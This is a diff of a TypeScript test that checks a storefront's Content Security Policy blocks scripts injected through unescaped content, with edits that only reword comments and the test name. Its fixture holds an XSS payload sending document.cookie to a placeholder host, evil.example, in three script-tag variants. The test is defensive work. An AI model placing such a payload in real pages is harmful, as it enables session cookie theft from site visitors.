@@ -13,14 +13,14 @@ const buildFolder = resolve(import.meta.dirname, '../../../apps/storefront/build
 let running: RunningShop;
 
 const stolen = 'fetch("//evil.example/" + document.cookie)';
-/** What an author of content should never be able to write, in the three places where a page may have it. */
+/** Scripts that an author of content must not be able to run, in the three places where a page may have them. */
 const text = [
   `<script>${stolen}</script>`,
   `<script nonce="">${stolen}</script>`,
   `</p><script type="module" async>${stolen}</script>`,
 ].join('');
 
-/** The storefront with a content page that writes a text as it is, which none of its own does. */
+/** The storefront with a content page that renders a text unescaped, which none of its own does. */
 function careless(build: ServerBuild): ServerBuild {
   const [id = '', route] = Object.entries(build.routes).find(([name]) => name === 'content/page') ?? [];
   if (!route) throw new Error('the storefront has no content pages');
@@ -42,7 +42,7 @@ afterAll(() => running.close());
 
 const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
 
-test('a script that got into a page with a text does not get into its policy, and the own ones do', async () => {
+test('a script injected by a text is not in the policy of the page, its own scripts are', async () => {
   const answer = await fetch(`${running.origin}/en-us/letter-to-customers`);
   const policy = answer.headers.get('content-security-policy') ?? '';
   const html = await answer.text();
@@ -53,6 +53,6 @@ test('a script that got into a page with a text does not get into its policy, an
   const own = scripts.filter((script) => script !== stolen && script !== '');
   expect(own.length).toBeGreaterThanOrEqual(3);
   for (const script of own) expect(policy, script.slice(0, 80)).toContain(hashOf(script));
-  // Nobody who reads a page learns what would have let a script in.
+  // The page does not reveal a nonce.
   expect(html.match(/nonce="[^"]+"/g)).toBeNull();
 });
